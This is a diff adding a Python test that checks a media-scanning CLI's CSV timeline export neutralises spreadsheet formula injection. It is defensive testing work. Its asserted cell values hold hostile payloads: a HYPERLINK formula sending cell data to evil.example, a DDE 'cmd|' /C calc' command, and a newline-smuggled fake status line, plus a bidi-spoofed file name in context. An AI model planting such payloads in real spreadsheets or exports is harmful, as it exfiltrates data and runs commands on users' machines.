@@ -7,6 +7,7 @@ and bidi controls, XML forbids some characters, a spreadsheet runs formulas. Rea
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import random
@@ -223,3 +224,18 @@ def test_junit_report_of_a_hostile_show_is_well_formed_xml(tmp_path: Path) -> No
     }
     failure = cases["comp/sh020_\u202egnp.exe.exr"].find("failure")
     assert failure is not None and "evil\\x1b[2J\\x1b]0;pwned\\x07tool" in (failure.text or "")
+
+
+def test_timeline_csv_guards_formula_cells_as_the_report_csv_does(tmp_path: Path) -> None:
+    root = hostile_show(tmp_path)
+    run_cli("scan", str(root))
+    result = run_cli("timeline", str(hostile_cut(root)), "-f", "csv")
+    assert result.code == 1, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    clips = [row["clip"] for row in rows]
+    assert clips[0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert clips[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert clips[3] == "sh997\nFAKE: 0 open findings"  # quoted by csv: one cell, as it is
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row.values()), row
+    assert rows[0]["record_in"] == "00:00:00:00"  # a value that is no formula is kept
